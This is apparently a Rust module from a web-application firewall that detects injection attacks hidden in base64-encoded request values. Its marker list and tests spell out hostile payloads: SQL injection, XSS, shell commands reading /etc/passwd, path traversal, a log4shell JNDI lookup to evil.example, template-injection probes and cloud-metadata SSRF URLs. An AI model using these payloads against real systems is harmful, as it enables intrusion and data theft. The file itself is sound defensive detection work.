//! Injection hidden in a base64-encoded value: an application that decodes
//! a parameter (`?data=JyBPUiAxPTEtLQ`, a base64 JSON field, a path segment
//! holding an encoded name) hands the decoded text to SQL, HTML or a shell,
//! where the other rules never saw it.
//!
//! A value is decoded only when it *is* base64 of text: the whole value
//! (trimmed; or, for a URL path, one of its `/`-separated segments, since
//! routes put an encoded name in a segment) is in the standard or URL-safe
//! alphabet with valid padding (`%2B`, `%2F`, `%3D` read as `+`, `/`, `=`,
//! as cookies and paths carry them), at least
//! [`MIN_ENCODED`] characters long, and decodes to UTF-8 without control
//! characters other than tab, CR and LF. Words, numbers, hashes and random
//! tokens decode to bytes that are not text, so they are never judged. The
//! decoded text then goes through the SQL, HTML, shell and path detectors,
//! each in all the contexts it knows, and last through a short list of
//! markers of the other families (`${jndi:`, `<!--#`, `)(|(`, `"$ne"`,
//! `169.254.169.254`, `__proto__`, …: syntax ordinary text does not hold);
//! the first finding wins and is reported as `base64+<context>`.

use super::{Detection, cmdi, path, sqli, xss};
use crate::rules::transform::{Transform, apply, base64_sextet};
use std::borrow::Cow;

/// Shortest encoded value judged: 8 characters decode to 6 bytes, enough
/// for `;id #`, `'--`-style probes; shorter values are words.
const MIN_ENCODED: usize = 8;

/// Longest value decoded (the detectors read at most about as much).
const MAX_ENCODED: usize = 8 * 1024;

/// At most this many `/`-separated segments of one value are tried.
const MAX_SEGMENTS: usize = 16;

/// Whether `b` may appear in base64 (standard or URL-safe, with padding).
fn in_alphabet(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=')
}

/// `%2B`, `%2F` and `%3D` (either case) as `+`, `/` and `=`: a cookie,
/// header or path carries base64 with those escaped. `None` when another
/// escape is present (then the value is not base64).
fn unescape(s: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'%' {
            let code = s.get(i + 1..i + 3)?;
            out.push(match code.to_ascii_uppercase().as_slice() {
                b"2B" => b'+',
                b"2F" => b'/',
                b"3D" => b'=',
                _ => return None,
            });
            i += 3;
        } else {
            out.push(s[i]);
            i += 1;
        }
    }
    Some(out)
}

/// The text `s` encodes, when it is base64 of text (see the module docs).
fn decode_text(s: &[u8]) -> Option<Vec<u8>> {
    let s = s.trim_ascii();
    // Most long runs of the alphabet (ids, tokens, `xxxx` padding) are not
    // text, and their first bytes already show it: looked at before the
    // rest of the value is (an escape in the head makes it pass here).
    let ok = |b: &u8| in_alphabet(*b) || *b == b'%';
    let (head, rest) = s.split_at(s.len().min(16));
    if s.len() < MIN_ENCODED
        || s.len() > MAX_ENCODED
        || !head.iter().all(ok)
        || !head_may_be_text(s)
        || !rest.iter().all(ok)
    {
        return None;
    }
    // Hex only is a number, hash or id (base64 of text has letters past
    // `f`). Letters only can be base64 (`' OR 1=1--` is `JyBPUiAxPTEtLQ`);
    // words decode to bytes that are not text.
    if s.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let escaped;
    let s = if s.contains(&b'%') {
        escaped = unescape(s)?;
        if !head_may_be_text(&escaped) {
            return None;
        }
        &escaped[..]
    } else {
        s
    };
    let Cow::Owned(out) = apply(Transform::Base64Decode, s) else {
        return None;
    };
    let text = std::str::from_utf8(&out).ok()?;
    let printable = text
        .chars()
        .all(|c| !c.is_control() || matches!(c, '\t' | '\n' | '\r'));
    // The detectors need punctuation; plain decoded words are not judged.
    let punct = out.iter().any(|b| b.is_ascii_punctuation());
    (printable && punct).then_some(out)
}

/// A byte no text [`decode_text`] accepts holds: a control character
/// other than tab, CR and LF, or a byte that never occurs in UTF-8.
fn never_in_text(b: u8) -> bool {
    (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r'))
        || b == 0x7f
        || matches!(b, 0xc0 | 0xc1 | 0xf5..)
}

/// Whether the first (up to) twelve bytes `s` encodes may start text:
/// decoded on the stack, before any allocation; `true` when they cannot
/// be decoded alone (the full decode decides).
fn head_may_be_text(s: &[u8]) -> bool {
    let mut head = [0u8; 12];
    let mut len = 0;
    for quad in s.chunks_exact(4).take(4) {
        let mut n = 0u32;
        for &c in quad {
            let Some(v) = base64_sextet(c) else {
                // Padding or an escape: what was decoded so far is judged.
                return utf8_may_start(&head[..len]);
            };
            n = n << 6 | u32::from(v);
        }
        let bytes = [(n >> 16) as u8, (n >> 8) as u8, n as u8];
        if bytes.iter().any(|&b| never_in_text(b)) {
            return false;
        }
        head[len..len + 3].copy_from_slice(&bytes);
        len += 3;
    }
    utf8_may_start(&head[..len])
}

/// Whether `b` is the start of UTF-8 text: valid, or cut inside its last
/// character.
fn utf8_may_start(b: &[u8]) -> bool {
    match std::str::from_utf8(b) {
        Ok(_) => true,
        Err(e) => e.error_len().is_none(),
    }
}

/// The text a field value encodes, when it is base64 of text (see the
/// module docs): the request view adds it as a field of its own, so every
/// rule reads it as it reads a value typed in plain.
pub(crate) fn decoded_text(s: &[u8]) -> Option<Vec<u8>> {
    decode_text(s)
}

/// Markers of the other injection families, looked for (ASCII
/// case-insensitively) in decoded text once the four detectors found
/// nothing: each is a piece of syntax that ordinary text encoded in a
/// parameter does not hold — lookups, template and include directives,
/// serialized and LDAP/NoSQL query structure, internal URL targets, header
/// lines after a line break.
const MARKERS: &[(&str, &str)] = &[
    ("${jndi:", "log4shell"),
    ("${env:", "log4shell"),
    ("${sys:", "log4shell"),
    ("${lower:", "log4shell"),
    ("${upper:", "log4shell"),
    ("${::-", "log4shell"),
    ("<!--#", "ssi"),
    ("<?php", "php"),
    ("<?=", "php"),
    ("<%=", "template"),
    (".__class__", "template"),
    ("__globals__", "template"),
    ("__proto__", "node"),
    ("constructor.prototype", "node"),
    ("child_process", "node"),
    ("java.lang.runtime", "java"),
    ("class.module.classloader", "java"),
    ("processbuilder(", "java"),
    (")(|(", "ldap"),
    (")(&(", "ldap"),
    ("*)(", "ldap"),
    ("\"$ne\"", "nosql"),
    ("\"$gt\"", "nosql"),
    ("\"$where\"", "nosql"),
    ("\"$regex\"", "nosql"),
    ("$where:", "nosql"),
    ("169.254.169.254", "ssrf"),
    ("metadata.google.internal", "ssrf"),
    ("100.100.100.200", "ssrf"),
    ("gopher://", "ssrf"),
    ("dict://", "ssrf"),
    ("file:///", "ssrf"),
    ("\nset-cookie:", "crlf"),
    ("\nlocation:", "crlf"),
    ("\nbcc:", "crlf"),
    ("\nhttp/1.", "crlf"),
];

/// A template arithmetic probe: `{{7*7}}`, `${7*7}`, `#{7*7}`, `*{7*7}`,
/// `<%= 7*7 %>` — an opener, a product or sum of two numbers, a closer.
fn template_probe(text: &[u8]) -> bool {
    const OPENERS: [&[u8]; 5] = [b"{{", b"${", b"#{", b"*{", b"<%="];
    let number = |s: &[u8]| s.iter().take_while(|b| b.is_ascii_digit()).count();
    let spaces = |s: &[u8]| s.iter().take_while(|b| **b == b' ').count();
    (0..text.len()).any(|i| {
        OPENERS.iter().any(|open| {
            let Some(mut rest) = text[i..].strip_prefix(*open) else {
                return false;
            };
            rest = &rest[spaces(rest)..];
            let a = number(rest);
            if a == 0 {
                return false;
            }
            rest = &rest[a..];
            rest = &rest[spaces(rest)..];
            let Some(after) = rest.strip_prefix(b"*").or_else(|| rest.strip_prefix(b"+")) else {
                return false;
            };
            rest = &after[spaces(after)..];
            let b = number(rest);
            b > 0 && {
                let tail = &rest[b..];
                let tail = &tail[spaces(tail)..];
                tail.starts_with(b"}") || tail.starts_with(b"%>")
            }
        })
    })
}

/// The first [`MARKERS`] entry in `text`, or a template probe.
fn marker(text: &[u8]) -> Option<Detection> {
    if template_probe(text) {
        return Some(Detection {
            context: "base64+marker",
            detail: "template: arithmetic probe".to_string(),
        });
    }
    let lower = text.to_ascii_lowercase();
    MARKERS.iter().find_map(|&(m, family)| {
        lower
            .windows(m.len())
            .any(|w| w == m.as_bytes())
            .then(|| Detection {
                context: "base64+marker",
                detail: format!("{family}: {}", m.escape_debug()),
            })
    })
}

/// The detectors, in order, on decoded text, then the markers.
fn judge(text: &[u8]) -> Option<Detection> {
    let found = [
        (sqli::detect as fn(&[u8]) -> Option<Detection>, "base64+sql"),
        (xss::detect, "base64+html"),
        (cmdi::detect, "base64+shell"),
        (path::detect, "base64+path"),
    ];
    found
        .into_iter()
        .find_map(|(detect, context)| {
            detect(text).map(|d| Detection {
                context,
                detail: format!("{}: {}", d.context, d.detail),
            })
        })
        .or_else(|| marker(text))
}

/// Decides whether `input`, or (for a URL path) one of its segments, is
/// base64 of text that one of the detectors flags.
pub fn detect(input: &[u8]) -> Option<Detection> {
    if input.len() < MIN_ENCODED {
        return None;
    }
    // A leading `/` would decode to a byte 0xFC-0xFF, never text: such a
    // value is a URL path, judged segment by segment.
    if input.first() != Some(&b'/') {
        return decode_text(input).and_then(|text| judge(&text));
    }
    input
        .split(|&b| b == b'/')
        .filter(|s| s.len() >= MIN_ENCODED)
        .take(MAX_SEGMENTS)
        .filter_map(decode_text)
        .find_map(|text| judge(&text))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(s: &str) -> String {
        // A tiny encoder for the tests (standard alphabet, padded).
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let b = s.as_bytes();
        let mut out = String::new();
        for c in b.chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for i in 0..4 {
                if i <= c.len() {
                    out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    /// The early look at the first decoded bytes never turns text away:
    /// any printable text with punctuation, encoded, decodes back.
    #[test]
    fn text_survives_the_head_check() {
        let pool: Vec<char> = "aZ09 .,;:'\"<>()[]{}=+-_/\\|&$#@!?*%\t\néüß€中"
            .chars()
            .collect();
        let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
        for _ in 0..5_000 {
            let mut text = String::from("text x=");
            for _ in 0..(x % 40) {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                text.push(pool[(x % pool.len() as u64) as usize]);
            }
            let enc = b64(&text);
            assert_eq!(
                decoded_text(enc.as_bytes()).as_deref(),
                Some(text.as_bytes()),
                "{text:?}"
            );
        }
        // Ids, tokens and padding are turned away early.
        assert!(!head_may_be_text(b"xxxxxxxxxxxxxxxxxxxxxxxx"));
        assert!(decoded_text(b"xxxxxxxxxxxxxxxxxxxxxxxx").is_none());
        // `zzzz` decodes to CF 3C F3: no control byte, but not UTF-8.
        assert!(!head_may_be_text(b"zzzzzzzzzzzzzzzzzzzzzzzz"));
        assert!(decoded_text(b"zzzzzzzzzzzzzzzzzzzzzzzz").is_none());
        // Cut inside a character is still a start of text: "ééééé" is
        // C3 A9 ×5, and twelve decoded bytes end inside none, nor does
        // a head cut one byte later.
        assert!(head_may_be_text(b64("ééééééé").as_bytes()));
        assert!(head_may_be_text(b64("xéééééé").as_bytes()));
    }

    #[test]
    fn encoded_payloads_are_found_in_their_context() {
        let cases = [
            ("' OR 1=1--", "base64+sql"),
            ("1 UNION SELECT username, password FROM users", "base64+sql"),
            ("<script>alert(1)</script>", "base64+html"),
            ("\"><img src=x onerror=alert(1)>", "base64+html"),
            ("; cat /etc/passwd", "base64+shell"),
            ("$(sleep 5)", "base64+shell"),
            ("../../../../etc/passwd", "base64+path"),
            ("${jndi:ldap://evil.example/a}", "base64+marker"),
            ("{{''.__class__.__mro__[1]}}", "base64+marker"),
            ("${7*7}", "base64+marker"),
            ("#{ 7 * 191 }", "base64+marker"),
            ("<%= 7*7 %>", "base64+marker"),
            ("<!--#exec cmd=\"id\" -->", "base64+marker"),
            ("*)(uid=*))(|(uid=*", "base64+marker"),
            ("{\"$ne\": null}", "base64+marker"),
            ("http://169.254.169.254/latest/meta-data/", "base64+marker"),
            ("x\r\nSet-Cookie: a=b", "base64+marker"),
        ];
        for (payload, context) in cases {
            let enc = b64(payload);
            let d = detect(enc.as_bytes()).unwrap_or_else(|| panic!("{payload}: {enc}"));
            assert_eq!(d.context, context, "{payload}");
            // Without padding, URL-safe, and as a segment of a path.
            let flat = enc
                .trim_end_matches('=')
                .replace('+', "-")
                .replace('/', "_");
            assert!(detect(flat.as_bytes()).is_some(), "{payload}: {flat}");
            let escaped = enc
                .replace('+', "%2B")
                .replace('/', "%2f")
                .replace('=', "%3D");
            assert!(detect(escaped.as_bytes()).is_some(), "{payload}: {escaped}");
            let in_path = format!("/api/items/{flat}/view");
            assert!(detect(in_path.as_bytes()).is_some(), "{payload}: {in_path}");
        }
    }

    #[test]
    fn ordinary_values_are_not_decoded_or_pass() {
        let benign = [
            // Words, numbers, identifiers, hashes, random tokens.
            "helloworld",
            "Password1234",
            "1234567890123",
            "d41d8cd98f00b204e9800998ecf8427e",
            "5f4dcc3b5aa765d61d8327deb882cf99",
            "dGhpcyBpcyBub3QgYW4gYXR0YWNr", // "this is not an attack"
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", // {"alg":"HS256","typ":"JWT"}
            "eyJ1c2VyIjoiam9obiIsInJvbGVzIjpbImFkbWluIl19",
            "dXNlcjpwYXNzd29yZA==",                         // user:password
            "aHR0cHM6Ly9leGFtcGxlLmNvbS9wYXRoP3g9MSZ5PTI=", // https://example.com/path?x=1&y=2
            "SGVsbG8sIFdvcmxkIQ==",                         // Hello, World!
            "TydSZWlsbHkgTWVkaWE=",                         // O'Reilly Media
            "x3JtY2FjaGU6c2Vzc2lvbjoxMjM0NQ",
            "/api/v1/users/42/orders",
            "/static/js/app.4f3a2b1c.js",
            "the quick brown fox jumps over the lazy dog",
            "Lorem ipsum dolor sit amet consectetur",
            "cHJpY2U6ICR7cHJpY2V9ICsgNSUgVkFU", // price: ${price} + 5% VAT
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        ];
        for v in benign {
            assert!(detect(v.as_bytes()).is_none(), "{v}");
        }
        // Decoded text the detectors do flag is still only judged when the
        // whole value (or a whole segment) is base64.
        let enc = b64("' OR 1=1--");
        assert!(detect(format!("{enc} and more").as_bytes()).is_none());
        assert!(detect(format!("x/{enc}").as_bytes()).is_none());
        assert!(detect(format!("{enc}%41").as_bytes()).is_none());
    }

    #[test]
    fn random_bytes_do_not_panic() {
        const ALPHABET: &[u8] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=-_ ";
        super::super::random_inputs(ALPHABET, 0x9E37_79B9_7F4A_7C15, |buf| {
            let _ = detect(buf);
        });
    }
}
